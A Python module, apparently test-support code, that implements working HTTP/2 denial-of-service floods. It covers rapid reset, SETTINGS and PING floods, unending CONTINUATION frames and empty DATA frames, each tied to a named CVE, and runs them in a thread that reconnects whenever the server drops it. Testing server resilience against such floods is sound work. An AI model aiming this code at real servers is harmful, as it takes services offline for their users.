"""Floods of HTTP/2 frames that a client may send and that cost it nothing: what each repeats, and a
thread that sends it over and over, on a new connection whenever one is closed.
"""

from __future__ import annotations

import os
import select
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from itertools import count

from support.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    literal,
)

AT_ONCE = 100
"""Repetitions between looks at what the other side says."""


def resets(block: bytes) -> Iterator[bytes]:
    """Rapid reset (CVE-2023-44487): streams that are opened and taken back."""
    cancel = struct.pack(">I", 8)
    for first in count(1, 2 * AT_ONCE):
        numbers = range(first, first + 2 * AT_ONCE, 2)
        yield b"".join(
            frame(HEADERS, END_HEADERS, one, block) + frame(RST_STREAM, 0, one, cancel)
            for one in numbers
        )


def settings(_: bytes) -> Iterator[bytes]:
    """Each must be acknowledged (CVE-2019-9515)."""
    for _ in count():
        yield b"".join(
            frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 - one)) for one in range(AT_ONCE)
        )


def pings(_: bytes) -> Iterator[bytes]:
    """Each must be answered (CVE-2019-9512)."""
    for _ in count():
        yield b"".join(frame(PING, 0, 0, os.urandom(8)) for _ in range(AT_ONCE))


def continuations(block: bytes) -> Iterator[bytes]:
    """A header block that does not end (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, block)
    for _ in count():
        yield b"".join(frame(CONTINUATION, 0, 1, literal(b"x", bytes(64))) for _ in range(AT_ONCE))


def empty_continuations(block: bytes) -> Iterator[bytes]:
    """The same, without a byte of content."""
    yield frame(HEADERS, 0, 1, block)
    yield from (frame(CONTINUATION, 0, 1) * AT_ONCE for _ in count())


def empty_data(block: bytes) -> Iterator[bytes]:
    """Frames that no window bounds (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, block)
    yield from (frame(DATA, 0, 1) * AT_ONCE for _ in count())


FLOODS: dict[str, Callable[[bytes], Iterator[bytes]]] = {
    "resets": resets,
    "settings": settings,
    "pings": pings,
    "continuations": continuations,
    "empty continuations": empty_continuations,
    "empty data": empty_data,
}


class Flood:
    """One attacker. It takes what the other side says and answers its pings, as a client would."""

    def __init__(self, connect: Callable[[], socket.socket], kind: str, block: bytes) -> None:
        """`connect` makes a connection on which nothing was said yet; `block` begins a call."""
        self._connect = connect
        self._kind = kind
        self._block = block
        self._over = threading.Event()
        self.sent = 0
        """Bytes."""

    def run(self) -> None:
        """Until `end`."""
        while not self._over.is_set():
            try:
                with self._connect() as one:
                    one.settimeout(2.0)
                    self._flood(one)
            except OSError:
                continue  # hung up on: that is what it is here for

    def _flood(self, one: socket.socket) -> None:
        one.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        heard = bytearray()
        for piece in FLOODS[self._kind](self._block):
            if self._over.is_set():
                return
            one.sendall(_answers(heard) + piece)
            self.sent += len(piece)
            while select.select([one], [], [], 0)[0] or _buffered(one):
                more = one.recv(65_536)
                if not more:
                    return
                heard += more

    def end(self) -> None:
        self._over.set()


def _buffered(one: socket.socket) -> int:
    """What TLS has read already."""
    pending: Callable[[], int] = getattr(one, "pending", lambda: 0)
    return pending()


def _answers(heard: bytearray) -> bytes:
    """To the pings among the frames that are whole; those are taken out."""
    said = b""
    while len(heard) >= 9 and len(heard) >= (end := 9 + int.from_bytes(heard[:3], "big")):
        if heard[3] == PING and not heard[4] & ACK:
            said += frame(PING, ACK, 0, bytes(heard[9:end]))
        del heard[:end]
    return said


@contextmanager
def flooding(connect: Callable[[], socket.socket], kind: str, block: bytes) -> Iterator[Flood]:
    """It floods meanwhile."""
    flood = Flood(connect, kind, block)
    thread = threading.Thread(target=flood.run)
    thread.start()
    try:
        yield flood
    finally:
        flood.end()
        thread.join()
